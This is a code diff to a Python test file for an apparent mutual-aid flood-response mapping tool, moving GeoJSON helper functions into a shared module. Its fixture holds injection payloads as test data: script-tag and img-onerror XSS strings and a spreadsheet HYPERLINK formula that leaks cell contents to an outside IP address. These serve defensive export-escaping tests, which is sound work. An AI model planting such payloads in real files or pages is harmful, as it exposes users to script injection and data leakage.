@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import json
 import re
 from pathlib import Path
 
@@ -23,21 +22,11 @@ from mutualaid.exports import (
 from mutualaid.maps.plan import plan_map
 from mutualaid.plan_figures import key_figures
 from mutualaid.scenario import load_scenario
+from builders import square, write_collection
 
 IMG = '<img src=x onerror="alert(1)">'
 BREAKOUT = "</script><script>alert(2)</script>"
 FORMULA = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")'
-
-
-def _square(x: float, y: float) -> dict:
-    ring = [[x, y], [x + 1, y], [x + 1, y + 1], [x, y + 1], [x, y]]
-    return {"type": "Polygon", "coordinates": [ring]}
-
-
-def _write(path: Path, features: list[tuple[dict, dict]]) -> None:
-    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
-        {"type": "Feature", "properties": props, "geometry": geom} for props, geom in features
-    ]}), encoding="utf-8")
 
 
 @pytest.fixture
@@ -45,11 +34,11 @@ def hostile(tmp_path: Path):
     """Dutch boats for a German flood; names and ids are formulas and script."""
     folder = tmp_path / "hostile"
     folder.mkdir()
-    _write(folder / "jurisdictions.geojson", [
-        ({"id": "DE-NW", "name": IMG, "country": "DE"}, _square(6.0, 50.0)),
-        ({"id": "NL-LI", "name": "Limburg", "country": "NL"}, _square(5.0, 50.0)),
+    write_collection(folder / "jurisdictions.geojson", [
+        ({"id": "DE-NW", "name": IMG, "country": "DE"}, square(6.0, 50.0)),
+        ({"id": "NL-LI", "name": "Limburg", "country": "NL"}, square(5.0, 50.0)),
     ])
-    _write(folder / "incidents.geojson", [
+    write_collection(folder / "incidents.geojson", [
         ({"id": "=1+2", "name": IMG, "hazard": "flood", "severity": 5,
           "reported_at": "2021-07-14T17:30:00Z", "needs": {"boat": 3, "pump": 1}},
          {"type": "Point", "coordinates": [6.5, 50.5]}),
@@ -57,7 +46,7 @@ def hostile(tmp_path: Path):
           "reported_at": "2021-07-14T17:30:00Z", "needs": {"boat": 1}},
          {"type": "Point", "coordinates": [6.4, 50.4]}),
     ])
-    _write(folder / "resources.geojson", [
+    write_collection(folder / "resources.geojson", [
         ({"id": FORMULA, "name": IMG, "type": "boat", "quantity": 2},
          {"type": "Point", "coordinates": [5.3, 50.2]}),
     ])
